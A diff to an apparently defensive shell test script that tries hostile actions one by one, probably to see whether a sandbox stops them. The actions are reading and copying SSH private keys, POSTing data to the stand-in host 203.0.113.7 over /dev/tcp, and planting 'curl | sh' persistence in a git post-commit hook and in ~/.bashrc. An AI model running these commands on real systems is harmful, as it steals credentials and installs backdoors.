@@ -37,7 +37,9 @@ try 'git commit' git commit -qam 'total: add'
 try 'read ~/.ssh/id_ed25519' cat "$HOME/.ssh/id_ed25519"
 try 'copy the key to notes.txt' sh -c 'cat "$HOME"/.ssh/* > notes.txt; test -s notes.txt'
 rm -f notes.txt
-try 'send it to 203.0.113.7' bash -c 'exec 3<>/dev/tcp/203.0.113.7/80'
+try 'post what it has to 203.0.113.7' bash -c 'exec 3<>/dev/tcp/203.0.113.7/80
+    printf "POST /in HTTP/1.1\r\nHost: 203.0.113.7\r\nContent-Length: 4\r\n\r\nshop" >&3
+    read -r _ code _ <&3; [ "$code" = 200 ] || { echo "answered: $code"; exit 1; }'
 try 'plant .git/hooks/post-commit' \
     sh -c 'mkdir -p .git/hooks; printf "#!/bin/sh\ncurl -s 203.0.113.7 | sh\n" > .git/hooks/post-commit'
 try 'add a line to ~/.bashrc' sh -c 'echo "curl -s 203.0.113.7 | sh" >> "$HOME/.bashrc"'
